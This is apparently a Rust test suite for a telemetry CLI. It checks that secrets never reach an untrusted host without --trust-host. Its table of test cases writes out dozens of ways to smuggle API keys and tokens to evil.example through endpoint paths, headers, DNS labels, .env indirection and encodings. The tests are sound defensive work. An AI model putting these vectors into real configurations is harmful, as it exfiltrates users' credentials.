//! Every way in which a project could send a secret to a host without consent: nothing is looked up, connected or
//! printed; with `--trust-host` it is sent.
//!
//! A proxy on loopback stands for all other hosts: it counts what would be sent, and no name is looked up for it.
//! Without it, a lookup would end in the code `dns`.

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
use serde_json::Value;

use crate::certificates::Authority;
use crate::fake_grpc::{GrpcReceiver, Reply};
use crate::rude::Rude;
use crate::sandbox::{AWS_SECRET, KEY, Run, Sandbox, TOKEN};
use crate::verify::project_with;
use crate::verify_trust::outer_address;

/// A GitHub token, short enough for one label of a host name.
const GITHUB: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";

/// A key in a variable that the user named.
const MINE: &str = "Tr0ub4dor-and-three-more";

/// A way to send a secret: the lines of a service's environment, and its surroundings.
#[derive(Default, Clone)]
struct Detour {
    what: &'static str,
    environment: Vec<(&'static str, String)>,
    files: Vec<(&'static str, String)>,
    /// Further lines of the compose file.
    compose: &'static str,
    /// The content of the request after the host was trusted.
    sent: String,
}

const ENDPOINT: &str = "OTEL_EXPORTER_OTLP_ENDPOINT";
const TRACES: &str = "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT";
const HEADERS: &str = "OTEL_EXPORTER_OTLP_HEADERS";
const NAME: &str = "OTEL_SERVICE_NAME";
const EVIL: &str = "http://evil.example";

fn detour(what: &'static str, environment: &[(&'static str, &str)], sent: &str) -> Detour {
    let environment = environment.iter().map(|(name, value)| (*name, (*value).to_owned()));
    Detour { what, environment: environment.collect(), sent: sent.to_owned(), ..Detour::default() }
}

impl Detour {
    fn file(mut self, path: &'static str, text: &str) -> Self {
        self.files.push((path, text.to_owned()));
        self
    }

    fn compose(self, compose: &'static str) -> Self {
        Self { compose, ..self }
    }

    fn sandbox(&self) -> Sandbox {
        let mut text = "services:\n  api:\n    build: .\n".to_owned();
        if !self.environment.is_empty() {
            text += "    environment:\n";
        }
        for (name, value) in &self.environment {
            text += &format!("      {name}: \"{value}\"\n");
        }
        text += self.compose;
        let mut files = vec![("compose.yaml", text.as_str())];
        files.extend(self.files.iter().map(|(path, text)| (*path, text.as_str())));
        keys(Sandbox::new(&files))
    }
}

/// Sets every secret in the shell.
fn keys(sandbox: Sandbox) -> Sandbox {
    sandbox
        .with("HONEYCOMB_API_KEY", KEY)
        .with("GITHUB_TOKEN", GITHUB)
        .with("MY_KEY", MINE)
        .with("ROLLBAR_ACCESS_TOKEN", TOKEN)
        .with("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
}

/// Routes all requests to other machines through `proxy`.
fn through(proxy: &Rude, sandbox: Sandbox) -> Sandbox {
    let url = proxy.url();
    sandbox.with("HTTP_PROXY", &url).with("HTTPS_PROXY", &url).with("https_proxy", &url)
}

fn outside() -> Rude {
    Rude::answering("application/json", b"{}")
}

fn hexadecimal(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// Checks that the output contains no secret in any form.
#[track_caller]
fn shows_nothing(what: &str, run: &Run) {
    let said = format!("{}{}", run.stdout, run.stderr).to_lowercase();
    for secret in [KEY, GITHUB, MINE, TOKEN, AWS_SECRET] {
        let encoded = BASE64_STANDARD.encode(secret);
        for form in [secret, &percent(secret), &hexadecimal(secret), encoded.trim_end_matches('=')]
        {
            assert!(!said.contains(&form.to_lowercase()), "{what}: {said}");
        }
    }
}

/// Returns the only service or addon of a document.
fn verdict(run: &Run) -> Value {
    let document = run.json();
    let both = ["services", "addons"].map(|list| document[list].as_array().unwrap().clone());
    let all = both.concat();
    assert_eq!(all.len(), 1, "{document:#}");
    all[0].clone()
}

/// Checks that nothing is sent without consent, neither to a proxy nor to a resolver, in the text form and as JSON.
#[track_caller]
fn stays(what: &str, sandbox: Sandbox) -> Sandbox {
    let run = sandbox.run(&["verify", "--json", "--timeout", "4s"]);
    shows_nothing(what, &run);
    assert_eq!(verdict(&run)["code"], "untrusted-host", "{what}: {:#}", run.json());
    assert_eq!(verdict(&run)["proven"], "none", "{what}");
    assert_eq!(run.status, 1, "{what}");
    let proxy = outside();
    let sandbox = through(&proxy, sandbox);
    for arguments in [&["verify", "--json"][..], &["verify"]] {
        let run = sandbox.run(arguments).expect(1);
        shows_nothing(what, &run);
    }
    assert_eq!(proxy.connections(), 0, "{what}");
    sandbox
}

/// Checks that nothing is sent without consent and everything is sent with it.
#[track_caller]
fn asks(what: &str, sandbox: Sandbox, host: &str, sent: &str) {
    let proxy = outside();
    let sandbox = through(&proxy, stays(what, sandbox));
    let run = sandbox.run(&["verify", "--json", "--trust-host", host]);
    assert_ne!(verdict(&run)["code"], "untrusted-host", "{what}: {:#}", run.json());
    assert!(proxy.connections() > 0, "{what}");
    let received = String::from_utf8_lossy(&proxy.received()).into_owned();
    assert!(received.contains(sent), "{what}: {received}");
}

fn table() -> Vec<Detour> {
    let api = (NAME, "api");
    let in_path = format!("{EVIL}/${{FOO}}");
    let indirect = (ENDPOINT, in_path.as_str());
    let evil = (ENDPOINT, EVIL);
    let collector = "      OTEL_EXPORTER_OTLP_ENDPOINT: http://otel-collector:4318\n  otel-collector:\n    \
                     image: otel/opentelemetry-collector\n    command: --config=/etc/otel.yaml\n    environment:\n      \
                     HONEYCOMB_API_KEY: ${HONEYCOMB_API_KEY}\n    volumes: ['./otel.yaml:/etc/otel.yaml']\n";
    let exporting = |exporter: &str| {
        format!(
            "exporters:\n  otlphttp:\n{exporter}service: {{pipelines: {{traces: {{exporters: [otlphttp]}}}}}}\n"
        )
    };
    let [upper, base64, code] = [KEY.to_uppercase(), BASE64_STANDARD.encode(KEY), hexadecimal(KEY)];
    vec![
        detour("path", &[api, (ENDPOINT, "http://evil.example/${HONEYCOMB_API_KEY}")], KEY),
        detour("path, through .env", &[api, indirect], KEY).file(".env", "FOO=${HONEYCOMB_API_KEY}\n"),
        detour("path, through .env twice", &[api, indirect], KEY)
            .file(".env", "A=$HONEYCOMB_API_KEY\nB=x${A}\nFOO=${B}\n"),
        detour("path, as a default", &[api, (ENDPOINT, "http://evil.example/${X:-${HONEYCOMB_API_KEY}}")], KEY),
        detour("path, as a replacement", &[api, (ENDPOINT, "http://evil.example/${HOME:+$MY_KEY}")], MINE),
        detour("path, a key of one's own", &[api, (ENDPOINT, "http://evil.example/${MY_KEY}")], MINE),
        detour("query", &[api, (TRACES, "http://evil.example/?a=1&k=${GITHUB_TOKEN}")], GITHUB),
        detour(
            "user",
            &[api, (ENDPOINT, "http://${GITHUB_TOKEN}@evil.example")],
            &BASE64_STANDARD.encode(format!("{GITHUB}:")),
        ),
        detour(
            "password",
            &[api, (ENDPOINT, "http://u:${GITHUB_TOKEN}@evil.example")],
            &BASE64_STANDARD.encode(format!("u:{GITHUB}")),
        ),
        detour("service name", &[evil, (NAME, "${GITHUB_TOKEN}")], GITHUB),
        detour("part of a service name", &[evil, (NAME, "api-${MY_KEY}-1")], MINE),
        detour("resource attribute", &[api, evil, ("OTEL_RESOURCE_ATTRIBUTES", "k=${MY_KEY}")], ""),
        detour(
            "service name in a resource attribute",
            &[evil, ("OTEL_RESOURCE_ATTRIBUTES", "service.name=${GITHUB_TOKEN}")],
            GITHUB,
        ),
        detour(
            "service name, compressed",
            &[evil, (NAME, "${GITHUB_TOKEN}"), ("OTEL_EXPORTER_OTLP_COMPRESSION", "gzip")],
            "gzip",
        ),
        detour(
            "service name, as JSON",
            &[evil, (NAME, "${GITHUB_TOKEN}"), ("OTEL_EXPORTER_OTLP_PROTOCOL", "http/json")],
            GITHUB,
        ),
        detour("header", &[api, evil, (HEADERS, "x-honeycomb-team=${HONEYCOMB_API_KEY}")], KEY),
        detour("header of another key", &[api, evil, (HEADERS, "x-tenant=${GITHUB_TOKEN}")], GITHUB),
        detour("header name", &[api, evil, (HEADERS, "x-${GITHUB_TOKEN}=1")], GITHUB),
        detour("header, by a variable of one's own", &[api, evil, (HEADERS, "x=${MY_KEY}")], MINE),
        detour("header, percent-encoded", &[api, evil, (HEADERS, "authorization=Bearer%20${MY_KEY}")], MINE),
        detour(
            "header of the traces signal",
            &[api, evil, ("OTEL_EXPORTER_OTLP_TRACES_HEADERS", "a=b,x=${MY_KEY}")],
            MINE,
        ),
        detour("env_file", &[], KEY)
            .compose("    env_file: api.env\n")
            .file("api.env", "OTEL_EXPORTER_OTLP_ENDPOINT=http://evil.example/${HONEYCOMB_API_KEY}\n"),
        detour("header in an env_file", &[], "x-tenant: acme")
            .compose("    env_file: api.env\n")
            .file(
                "api.env",
                "OTEL_EXPORTER_OTLP_ENDPOINT=http://evil.example\nOTEL_EXPORTER_OTLP_HEADERS=x-tenant=acme\n",
            ),
        detour("a password of .env", &[api, (ENDPOINT, "http://evil.example/${DB}")], "s3cret-w0rd")
            .file(".env", "DATABASE_URL=postgres://app:s3cret-w0rd@db/x\nDB=s3cret-w0rd\n"),
        detour("percent-encoded", &[api, indirect], &percent(KEY)).file(".env", &format!("FOO={}\n", percent(KEY))),
        detour("base64", &[api, indirect], &base64).file(".env", &format!("FOO={base64}\n")),
        detour("upper case", &[api, indirect], &upper).file(".env", &format!("FOO={upper}\n")),
        detour("hexadecimal", &[api, indirect], &code).file(".env", &format!("FOO={code}\n")),
        detour("collector's address", &[api], KEY).compose(collector).file(
            "otel.yaml",
            &exporting("    endpoint: 'http://evil.example/${env:HONEYCOMB_API_KEY}'\n"),
        ),
        detour("collector's address for traces", &[api], KEY).compose(collector).file(
            "otel.yaml",
            &exporting("    traces_endpoint: 'http://evil.example/${HONEYCOMB_API_KEY}/v1/traces'\n"),
        ),
        detour("collector's header", &[api], KEY).compose(collector).file(
            "otel.yaml",
            &exporting("    endpoint: http://evil.example\n    headers: {x: 'k ${env:HONEYCOMB_API_KEY}'}\n"),
        ),
        detour("a password with a question mark", &[api, indirect], "tr0ub4dor")
            .file(".env", "FOO='tr0ub4dor?and?three'\nA_PASSWORD='tr0ub4dor?and?three'\n"),
        detour("a password with a hash", &[api, indirect], "tr0ub4dor")
            .file(".env", "FOO='tr0ub4dor#and#three'\nA_PASSWORD='tr0ub4dor#and#three'\n"),
        detour("a private key of several lines", &[api, indirect], "PRIVATE%20KEY")
            .file(".env", "FOO=\"-----BEGIN PRIVATE KEY-----\nMIIBabcd\n-----END PRIVATE KEY-----\"\n"),
        detour("a part of a connection string", &[api, indirect], "s3cret-w0rd")
            .file(".env", "DB='host=db password=s3cret-w0rd'\nFOO=s3cret-w0rd\n"),
        detour("Rollbar's address", &[
            ("ROLLBAR_ACCESS_TOKEN", "${ROLLBAR_ACCESS_TOKEN}"),
            ("ROLLBAR_ENDPOINT", "http://evil.example/api/1/"),
        ], TOKEN),
        detour("the path of Rollbar's address", &[
            ("ROLLBAR_ACCESS_TOKEN", "public"),
            ("ROLLBAR_ENDPOINT", "http://evil.example/${HONEYCOMB_API_KEY}/api/1/"),
        ], KEY),
    ]
}

#[test]
fn no_detour_leads_to_an_untrusted_host() {
    let table = table();
    assert!(table.len() >= 30);
    for one in table {
        asks(one.what, one.sandbox(), "evil.example", &one.sent);
    }
}

#[test]
fn a_host_that_holds_a_secret_is_never_looked_up() {
    let (one, other) = KEY.split_at(30);
    let halves = format!("ONE={one}\nOTHER={other}\n");
    let code = format!("CODE={}\n", &hexadecimal(GITHUB));
    let base64 = format!("CODE={}\n", BASE64_URL_SAFE_NO_PAD.encode(&GITHUB[..40]));
    for (what, address, dotenv) in [
        ("a label", "${GITHUB_TOKEN}.evil.example", ""),
        (
            "a label in upper case",
            "${UP}.evil.example",
            &*format!("UP={}\n", GITHUB.to_uppercase()),
        ),
        ("a part of a label", "x-${MY_KEY}-y.evil.example", ""),
        ("longer than a label", "${HONEYCOMB_API_KEY}.evil.example", ""),
        ("across labels", "${ONE}.${OTHER}.evil.example", &*halves),
        ("the whole host", "${MY_KEY}", ""),
        ("in hexadecimal", "${CODE}.evil.example", &*code),
        ("in base64", "${CODE}.evil.example", &*base64),
        ("at loopback's name", "${GITHUB_TOKEN}.localhost", ""),
    ] {
        let endpoint = format!("http://{address}:80");
        for protocol in ["http/protobuf", "grpc"] {
            let environment =
                [(NAME, "api"), (ENDPOINT, &*endpoint), ("OTEL_EXPORTER_OTLP_PROTOCOL", protocol)];
            let sandbox = detour(what, &environment, "").file(".env", dotenv).sandbox();
            let sandbox = stays(what, sandbox);
            let host = address.replace("${GITHUB_TOKEN}", GITHUB).replace("${MY_KEY}", MINE);
            let run = sandbox.run(&["verify", "--json", "--trust-host", &host]).expect(1);
            assert_eq!(verdict(&run)["code"], "untrusted-host", "{what}");
        }
    }
    for address in
        ["${GITHUB_TOKEN}.evil.example:2000", "tcp:127.0.0.1:1 udp:${MY_KEY}.evil.example:2000"]
    {
        stays("X-Ray", detour("X-Ray", &[("AWS_XRAY_DAEMON_ADDRESS", address)], "").sandbox());
    }
}

/// Returns a service that sends to `endpoint` with `headers`, with this `name`.
fn sending(endpoint: &str, headers: &str, name: &str) -> Sandbox {
    detour("", &[(ENDPOINT, endpoint), (HEADERS, headers), (NAME, name)], "").sandbox()
}

#[test]
fn a_provider_gets_its_own_key_in_its_own_header_and_nothing_else() {
    let honeycomb = "https://api.honeycomb.io";
    let team = "x-honeycomb-team=${HONEYCOMB_API_KEY}";
    for (endpoint, headers, name) in [
        ("http://api.honeycomb.io", team, "api"),
        ("https://api.rollbar.com", team, "api"),
        ("https://otlp.datadoghq.com", "dd-api-key=${HONEYCOMB_API_KEY}", "api"),
        (honeycomb, "x-honeycomb-team=${ROLLBAR_ACCESS_TOKEN}", "api"),
        (honeycomb, "x-honeycomb-team=${AWS_SECRET_ACCESS_KEY}", "api"),
        (honeycomb, "x-honeycomb-team=public,x-honeycomb-dataset=${GITHUB_TOKEN}", "api"),
        (honeycomb, "x-honeycomb-team=public", "${GITHUB_TOKEN}"),
        (honeycomb, "x-honeycomb-team=public", "${HONEYCOMB_API_KEY}"),
        ("https://api.honeycomb.io/${HONEYCOMB_API_KEY}", "x-honeycomb-team=public", "api"),
    ] {
        let host = url::Url::parse(endpoint).unwrap();
        asks(headers, sending(endpoint, headers, name), host.host_str().unwrap(), "");
    }
    let proxy = outside();
    let run = through(&proxy, sending(honeycomb, team, "api")).run(&["verify", "--json"]);
    assert_ne!(verdict(&run)["code"], "untrusted-host");
    assert!(proxy.connections() > 0);
}

#[test]
fn an_authority_of_the_projects_own_is_asked_about_for_a_providers_host() {
    let authority = Authority::new();
    let team = "x-honeycomb-team=${HONEYCOMB_API_KEY}";
    let endpoint = "https://api.honeycomb.io";
    for name in ["OTEL_EXPORTER_OTLP_CERTIFICATE", "OTEL_EXPORTER_OTLP_TRACES_CERTIFICATE"] {
        let environment = [(NAME, "api"), (ENDPOINT, endpoint), (HEADERS, team), (name, "ca.pem")];
        let detour = detour(name, &environment, "").file("ca.pem", &authority.pem());
        asks(name, detour.sandbox(), "api.honeycomb.io", "CONNECT api.honeycomb.io:443");
    }
}

#[test]
fn a_redirection_takes_nothing_elsewhere() {
    let proxy = outside();
    for status in ["301 Moved", "307 Temporary Redirect", "308 Permanent Redirect"] {
        let answer = format!(
            "HTTP/1.1 {status}\r\nLocation: http://evil.example/v1/traces\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        let server = Rude::saying(answer);
        let sandbox = through(&proxy, project_with(&server.url(), &[]));
        let run = sandbox.run(&["verify", "--json", "--trust-host", "evil.example"]).expect(1);
        assert_eq!(verdict(&run)["code"], "redirected");
        assert!(server.connections() > 0);
    }
    assert_eq!(proxy.connections(), 0);
}

#[test]
fn grpc_is_asked_about_like_http() {
    let grpc = ("OTEL_EXPORTER_OTLP_PROTOCOL", "grpc");
    for (what, environment) in [
        (
            "header",
            vec![
                (NAME, "api"),
                (HEADERS, "x=${MY_KEY}"),
                grpc,
                (ENDPOINT, "http://evil.example:4317"),
            ],
        ),
        ("name", vec![(NAME, "${MY_KEY}"), grpc, (ENDPOINT, "https://evil.example")]),
        ("no scheme", vec![(NAME, "${GITHUB_TOKEN}"), grpc, (ENDPOINT, "evil.example:4317")]),
        ("path", vec![(NAME, "api"), grpc, (ENDPOINT, "http://evil.example/${MY_KEY}")]),
    ] {
        stays(what, detour(what, &environment, "").sandbox());
    }
    let receiver = GrpcReceiver::start(Reply::Taken);
    let url = receiver.url();
    let own = [
        (NAME, "${MY_KEY}"),
        grpc,
        (HEADERS, "x-honeycomb-team=${HONEYCOMB_API_KEY}"),
        (ENDPOINT, &url),
    ];
    detour("own", &own, "").sandbox().run(&["verify", "--json"]).expect(0);
    assert_eq!(receiver.calls()[0].key.as_deref(), Some(KEY));
}

#[test]
fn every_command_that_sends_the_key_asks_before_it_looks_a_host_up() {
    let sandbox = || keys(Sandbox::new(&[("compose.yaml", "services:\n  api:\n    build: .\n")]));
    for command in [
        &["key", "whoami"][..],
        &["listen", "--forward", "--http-port", "0", "--grpc-port", "0", "--for", "200ms"],
        &["query", "traces", "--http-port", "1"],
    ] {
        for endpoint in ["http://evil.example", "https://evil.example/x", "http://api.honeycomb.io"]
        {
            let proxy = outside();
            let alone = [command, &["--endpoint", endpoint]].concat();
            let run = sandbox().run(&alone).expect(2);
            assert!(run.stderr.contains("error[untrusted-host]"), "{alone:?}: {}", run.stderr);
            let sandbox = through(&proxy, sandbox());
            sandbox.run(&alone).expect(2);
            assert_eq!(proxy.connections(), 0, "{alone:?}");
            if command[0] != "listen" {
                let host = url::Url::parse(endpoint).unwrap().host_str().unwrap().to_owned();
                sandbox.run(&[&alone[..], &["--trust-host", &host]].concat());
                assert!(proxy.connections() > 0, "{alone:?}");
            }
        }
        let host = format!("http://{GITHUB}.evil.example");
        let run = sandbox().run(&[command, &["--endpoint", &host]].concat()).expect(2);
        shows_nothing("host", &run);
        assert!(run.stderr.contains("error[untrusted-host]"), "{}", run.stderr);
    }
}

#[test]
fn init_does_not_send_the_key_to_an_untrusted_host() {
    let compose = "services:\n  api:\n    build: .\n    ports: ['4567:4567']\n";
    let arguments = [
        "init",
        "--yes",
        "--no-instrument",
        "--provider",
        "otlp",
        "--endpoint",
        EVIL,
        "--header",
        "x-honeycomb-team=HONEYCOMB_API_KEY",
        "--service",
        "api",
        "--json",
    ];
    let proxy = outside();
    let sandbox = through(&proxy, keys(Sandbox::new(&[("compose.yaml", compose)])));
    let run = sandbox.run(&arguments).expect(1);
    shows_nothing("init", &run);
    assert_eq!(run.json()["verify"]["services"][0]["code"], "untrusted-host");
    assert_eq!(proxy.connections(), 0);
    let run = sandbox.run(&[&arguments[..], &["--trust-host", "evil.example"]].concat());
    assert_ne!(run.json()["verify"]["services"][0]["code"], "untrusted-host");
    let received = String::from_utf8_lossy(&proxy.received()).into_owned();
    assert!(received.contains("/1/auth") && received.contains(KEY), "{received}");
}

#[test]
fn a_secret_in_what_is_forwarded_stays_here() {
    use crate::listening::{Listening, post, trace};
    let proxy = outside();
    let sandbox = through(&proxy, keys(Sandbox::new(&[])));
    // The provider's own host without TLS: vouched for, as every host with a secret in the body has to be.
    let honeycomb = crate::fake_honeycomb::Honeycomb::start(&[]);
    let mut listening = Listening::start(&sandbox, &["--forward", "--endpoint", &honeycomb.url()]);
    post(listening.http, &trace(GITHUB, 1));
    listening.hear("did not accept what was forwarded");
    listening.interrupt();
    drop(listening.end());
    assert_eq!(honeycomb.seen_at("/v1/traces").len(), 1, "this machine may see everything");

    let mut listening = Listening::start(&sandbox, &["--forward"]);
    post(listening.http, &trace(GITHUB, 1));
    let said = listening.hear("did not accept what was forwarded");
    assert!(said.contains("GITHUB_TOKEN") && !said.contains(GITHUB), "{said}");
    listening.interrupt();
    drop(listening.end());
    assert_eq!(proxy.connections(), 0);
}

#[test]
fn a_host_of_this_machines_own_name_is_no_loopback_before_it_is_looked_up() {
    let Some(address) = outer_address() else {
        println!("skipped: this machine has no address but loopback");
        return;
    };
    let server = Rude::on(address, "application/json", b"{}");
    let url = format!("http://{}/${{MY_KEY}}", server.address);
    let sandbox = detour("", &[(NAME, "api"), (ENDPOINT, &url)], "").sandbox();
    let run = sandbox.run(&["verify", "--json"]).expect(1);
    assert_eq!(verdict(&run)["code"], "untrusted-host");
    assert_eq!(server.connections(), 0);
    let vouched = address.to_string();
    sandbox.run(&["verify", "--json", "--trust-host", &vouched]).expect(0);
    assert!(String::from_utf8_lossy(&server.received()).contains(MINE));
}

#[test]
fn a_name_an_address_and_a_region_are_shown_as_they_are() {
    let compose = "services:\n  backend-flask:\n    build: .\n    environment:\n      \
                   OTEL_SERVICE_NAME: ${HONEYCOMB_SERVICE_NAME}\n      OTEL_EXPORTER_OTLP_ENDPOINT: http://127.0.0.1:1\n";
    let dotenv = "HONEYCOMB_SERVICE_NAME=backend-flask\nKEY_REGION=eu-central-1\nTOKEN_URL=http://127.0.0.1:1\n";
    let sandbox = Sandbox::new(&[("compose.yaml", compose), (".env", dotenv)])
        .with("OTEL_SERVICE_NAME", "backend-flask")
        .with("API_KEY_NAME", "compose.yaml")
        .with("SECRET_PORT", "12345");
    for command in [
        &["doctor", "--json"][..],
        &["doctor"],
        &["verify", "--json"],
        &["verify"],
        &["key", "status", "--variable", "HONEYCOMB_SERVICE_NAME"],
        &["init", "--store", "none", "--yes", "--dry-run"],
    ] {
        let run = sandbox.run(command);
        let said = run.stdout + &run.stderr;
        for name in
            ["<HONEYCOMB_SERVICE_NAME>", "<OTEL_SERVICE_NAME>", "<TOKEN_URL>", "<API_KEY_NAME>"]
        {
            assert!(!said.contains(name), "{command:?}: {said}");
        }
    }
    let found = sandbox.run(&["doctor", "--json"]).stdout;
    assert!(found.contains("backend-flask") && found.contains("compose.yaml"), "{found}");
}
